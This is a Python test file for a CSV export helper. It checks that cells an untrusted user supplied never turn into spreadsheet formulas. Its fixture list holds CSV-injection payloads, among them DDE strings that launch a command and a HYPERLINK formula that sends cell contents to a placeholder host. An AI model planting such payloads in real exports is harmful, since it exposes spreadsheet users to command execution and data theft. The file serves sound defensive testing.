"""Tables for spreadsheets: what somebody has called themselves is never a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ngshare_fs.web.untrusted.csv_table import csv_table

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\ufeff=1", "\uff1d1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"x")', "\0=1", "-2+3+cmd|'/C calc'!A0", "  \u200b@x",
)  # fmt: skip


def parsed(table: bytes, separator: str = ",") -> list[list[str]]:
    assert table.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";"])
def test_a_formula_is_text(text: str, separator: str) -> None:
    ((first, second),) = parsed(csv_table([["a", text]], separator), separator)
    assert (first, second) == ("a", "'" + text.replace("\0", ""))


def test_numbers_and_empty_cells_stay() -> None:
    assert parsed(csv_table([["late", "n"], [-5, None], [0, 12]])) == [["late", "n"], ["-5", ""], ["0", "12"]]


@given(st.lists(st.lists(st.text(max_size=8) | st.sampled_from(FORMULAS), min_size=1, max_size=4), max_size=5))
def test_whatever_it_says_it_is_one_cell(rows: list[list[str]]) -> None:
    found = parsed(csv_table(rows))
    assert [len(row) for row in found] == [len(row) for row in rows]
    for cells, texts in zip(found, rows, strict=True):
        for cell, text in zip(cells, texts, strict=True):
            kept = text.replace("\0", "").encode("utf-8", "backslashreplace").decode()
            assert cell in (kept, "'" + kept)
            assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n"))
